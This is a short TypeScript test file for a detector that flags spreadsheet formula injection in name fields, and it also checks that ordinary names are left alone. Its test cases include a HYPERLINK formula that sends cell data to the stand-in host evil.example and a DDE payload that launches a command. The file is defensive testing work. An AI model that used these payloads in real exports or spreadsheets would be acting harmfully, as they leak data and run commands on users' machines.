import { expect, it } from 'vitest';
import { formulaProblem } from './formula-text.ts';

it.each([
  '=HYPERLINK("http://evil.example/?"&A2,"ok")',
  " =cmd|'/C calc'!A0",
  '@SUM(1)',
  '+1|2',
  '-2+3+cmd!A0',
  '＝SUM（1）',
])('could run in a spreadsheet: %s', (text) => {
  expect(formulaProblem(text)).toMatch(/^A spreadsheet would run this/);
});

it.each(['=Harbor', '@Home Insurance', '10% (today!)', '+1 813 555 0142', 'Ames (Tampa)', 'A+ Agents!', ''])(
  'is a name: %s',
  (text) => {
    expect(formulaProblem(text)).toBeNull();
  },
);
